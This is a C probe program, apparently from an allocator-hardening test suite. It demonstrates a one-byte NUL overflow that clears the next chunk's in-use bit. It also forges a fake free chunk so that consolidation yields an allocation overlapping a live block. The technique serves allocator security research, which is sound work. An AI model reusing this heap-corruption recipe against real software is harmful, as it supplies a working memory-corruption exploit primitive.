/* off-by-one-nul: a string copy one byte too long writes a NUL just past the usable end of block a.
 * With inline headers that byte is the low byte of the next chunk's size word: it clears the "previous
 * in use" bit (and shrinks the size unless it is a multiple of 256). a's owner, the attacker, has
 * filled a with what a consolidating free would check (a's own links pointing at itself, and in a's
 * last word the distance back to a's header, read as the next chunk's "previous size"), and the
 * per-thread cache of the size is full, so the next block's free goes to the allocator's bins.
 * Primitive: the next block's data changed (no inline header), or after it is freed a later
 * allocation overlaps a live block (a merged with a free neighbour); searched over 100,000. */
#include "probe.h"

#define FILLERS 8

int main(int argc, char **argv)
{
    size_t size = probe_size(argc, argv, 0xf8);
    size_t slack = size < 1024 ? 64 : 16384;
    static void *fillers[FILLERS];
    probe_neighbours(size, PROBE_NEIGHBOURS / 2);
    for (int i = 0; i < FILLERS; i++)
        fillers[i] = xmalloc(size);
    unsigned char *a = (unsigned char *)xmalloc(size), *b = (unsigned char *)xmalloc(size);
    void *guard = xmalloc(size); /* keeps b away from the top of the heap */
    probe_neighbours(size, PROBE_NEIGHBOURS / 2);
    size_t ua = usable_size(a, size, slack), ub = usable_size(b, size, slack);
    fill_bytes(a, 0, ua, 'a');
    fill_bytes(b, 0, ub, 'b');
    if (ua >= 48 && b > a) {
        volatile uintptr_t *w = (volatile uintptr_t *)a;
        uintptr_t header = (uintptr_t)a - 16;
        w[0] = w[1] = header;          /* a's chunk as a free chunk whose links point to itself */
        w[2] = w[3] = 0;               /* no large-bin links */
        *(volatile uintptr_t *)(a + ua - 8) = (uintptr_t)b - (uintptr_t)a; /* b's "previous size" */
    }
    probe_live_add(a, ua);
    probe_target(a + ua, a + ua + 1);
    probe_mark("setup-done");
    ((volatile unsigned char *)launder(a))[ua] = 0;
    probe_mark("misuse-done");
    int b_changed = count_bytes(b, 0, ub, 'b') != ub;
    struct probe_hunt h = {0};
    if (b_changed) {
        probe_mark("primitive");
    } else {
        for (int i = 0; i < FILLERS; i++)
            pfree(fillers[i]);
        pfree(b);
        h.size = size;
        h.window = PROBE_WINDOW;
        probe_hunt(&h);
        if (h.why == PROBE_HUNT_OVERLAP)
            probe_mark("primitive");
    }
    int worked = b_changed || h.why == PROBE_HUNT_OVERLAP;
    probe_result("worked=%d size=%zu step=%lu next_data_changed=%d overlaps_a=%d usable=%zu made=%lu", worked,
                 size, h.why == PROBE_HUNT_OVERLAP ? h.step : 0ul, b_changed,
                 h.why == PROBE_HUNT_OVERLAP && h.hit_other == a, ua, h.made);
    (void)guard;
    probe_go_on();
    return 0;
}
